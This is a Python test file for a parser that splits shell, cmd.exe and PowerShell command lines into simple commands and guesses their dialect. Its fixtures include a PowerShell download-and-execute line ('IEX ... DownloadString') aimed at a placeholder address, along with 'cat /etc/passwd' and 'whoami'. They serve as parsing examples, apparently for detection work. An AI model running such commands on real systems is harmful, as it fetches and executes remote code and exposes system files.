"""A command line as its simple commands."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ttpline.commands.dialect import Dialect, guess_dialect
from ttpline.commands.parts import MAX_DEPTH, part_spans, split_parts

POSIX = [
    ("a | b || c && d; e & f\ng", ("a", "b", "c", "d", "e", "f", "g")),
    ("a |& b", ("a", "b")),
    ("echo 'a|b' \"c;d\" \\; x", ("echo 'a|b' \"c;d\" \\; x",)),
    ("echo $'it\\'s;' ; x", ("echo $'it\\'s;'", "x")),
    ('echo "$(id; who) `pwd`"', ('echo "$(id; who) `pwd`"', "id", "who", "pwd")),
    ("(cd /tmp; ls) > out 2>&1; id", ("cd /tmp", "ls", "id")),
    ("{ a; b; } > x; c", ("a", "b", "c")),
    ("cat <<< 'x;y' | sh", ("cat <<< 'x;y'", "sh")),
    ("a 2>&1 &> log >| x", ("a 2>&1 &> log >| x",)),
    ("echo $((1 | 2)) ${x:-a;b}; z", ("echo $((1 | 2)) ${x:-a;b}", "z")),
    ("ls # a; b\nid", ("ls", "id")),
    ("echo a#b; id", ("echo a#b", "id")),
    ("echo 'open; id", ("echo 'open; id",)),
    ('x=$(a "b $(c)")', ('x=$(a "b $(c)")', 'a "b $(c)"', "c")),
    ("case x in a) ls;; esac", ("case x in a) ls", "esac")),
    (" ;; & | ", ()),
    ("", ()),
    ("  ls  ", ("ls",)),
]

CMD = [
    ('cmd.exe /c "whoami & dir" & echo a ^& b | more', ('cmd.exe /c "whoami & dir"', "echo a ^& b", "more")),
    ("cmd /c echo it's & dir", ("cmd /c echo it's", "dir")),
    ("cmd /c a;b", ("cmd /c a;b",)),
]

POWERSHELL = [
    ("Get-Process | Out-File a; 'a;b'", ("Get-Process", "Out-File a", "'a;b'")),
    (
        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a;b'); Get-Item x",
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a;b')", "Get-Item x"),
    ),
    ("Get-Item x | ForEach-Object { del $_; id }", ("Get-Item x", "ForEach-Object { del $_; id }", "del $_", "id")),
    ('Write-Output "a`";b"; Get-Date', ('Write-Output "a`";b"', "Get-Date")),
]


@pytest.mark.parametrize(("text", "parts"), POSIX)
def test_posix_commands_are_split_where_the_shell_splits(text: str, parts: tuple[str, ...]) -> None:
    assert split_parts(text) == parts


@pytest.mark.parametrize(("text", "parts"), CMD)
def test_cmd_knows_carets_and_no_single_quotes(text: str, parts: tuple[str, ...]) -> None:
    assert guess_dialect(text) is Dialect.CMD
    assert split_parts(text) == parts


@pytest.mark.parametrize(("text", "parts"), POWERSHELL)
def test_powershell_knows_script_blocks_and_backticks(text: str, parts: tuple[str, ...]) -> None:
    assert guess_dialect(text) is Dialect.POWERSHELL
    assert split_parts(text) == parts


@pytest.mark.parametrize("text", ["apt-get install x", "cat /etc/passwd", "grep -E 'a%b' x", "./run.sh", ""])
def test_what_speaks_for_no_other_dialect_is_posix(text: str) -> None:
    assert guess_dialect(text) is Dialect.POSIX


@given(st.text("ab '\"\\`$(){};|&\n#<>^@é", max_size=40), st.sampled_from(Dialect))
@settings(deadline=None, max_examples=300)
def test_every_part_is_a_trimmed_slice_of_any_text(text: str, dialect: Dialect) -> None:
    spans = part_spans(text, dialect)
    assert spans == sorted(spans, key=lambda span: (span[0], -span[1]))
    for start, end in spans:
        part = text[start:end]
        assert part and part == part.strip(" \t\n\r\v\f")


def test_deep_nesting_stays_inside_its_parent() -> None:
    parts = split_parts("$(a " * 40 + ")" * 40)
    assert len(parts) == MAX_DEPTH


@pytest.mark.fuzz
@pytest.mark.parametrize(
    "unit", ["(", "$(", "`", '"$(', ";", "a;", "'", "${", "((", "$'\\", "#", " #\n", "$'", "{ ", "(a ", "f(x) ", "a("]
)
def test_time_is_linear_in_hostile_text(unit: str) -> None:
    def seconds(characters: int) -> float:
        text = unit * (characters // len(unit))
        best = float("inf")
        for _ in range(3):
            started = time.process_time()
            split_parts(text)
            best = min(best, time.process_time() - started)
        return best

    assert seconds(64_000) < 10 * max(seconds(16_000), 0.004)
